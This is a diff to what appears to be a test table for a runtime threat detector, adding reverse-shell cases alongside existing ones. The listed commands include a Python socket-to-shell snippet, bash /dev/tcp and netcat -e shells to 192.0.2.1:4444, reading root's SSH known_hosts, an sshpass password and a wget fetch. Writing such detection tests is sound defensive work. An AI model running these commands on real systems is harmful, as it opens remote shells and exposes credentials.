@@ -228,6 +228,12 @@ ctypes.CDLL(None).ptrace(0x4206, $!, 0, 0)"; kill $!''',
     'Known hosts read': 'reads /usr/bin/cat /root/.ssh/known_hosts',
     'Password on a command line for ssh': 'as /usr/bin/sshpass -p x ssh root@192.0.2.1',
     # Command and control
+    'Shell on a network connection': f'''{PYTHON} "
+import os, socket
+s = socket.socket()
+os.dup2(s.fileno(), 0)
+os.execv('/bin/sh', ['sh'])"''',
+    'Interactive shell on pipes': 'true | sh -i 2>&1 | cat',
     'Shell connects to the network': 'bash -c "exec 3<>/dev/tcp/192.0.2.1/4444"',
     'Netcat hands a connection to a program': 'as /usr/bin/nc.traditional -e /bin/sh 192.0.2.1 4444',
     'Network service fetches a file': 'put /bin/true /usr/bin/wget; serve /usr/sbin/nginx "wget http://192.0.2.1/a"',
